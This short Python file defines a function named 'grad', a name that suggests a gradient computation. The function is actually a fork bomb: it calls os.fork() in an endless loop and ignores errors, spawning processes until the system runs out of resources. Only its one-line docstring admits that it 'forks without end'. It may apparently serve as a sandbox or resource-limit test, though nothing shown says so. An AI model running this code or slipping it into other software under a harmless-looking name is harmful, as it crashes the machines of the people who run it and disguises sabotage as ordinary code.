"""grad forks without end."""
import os


def grad(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
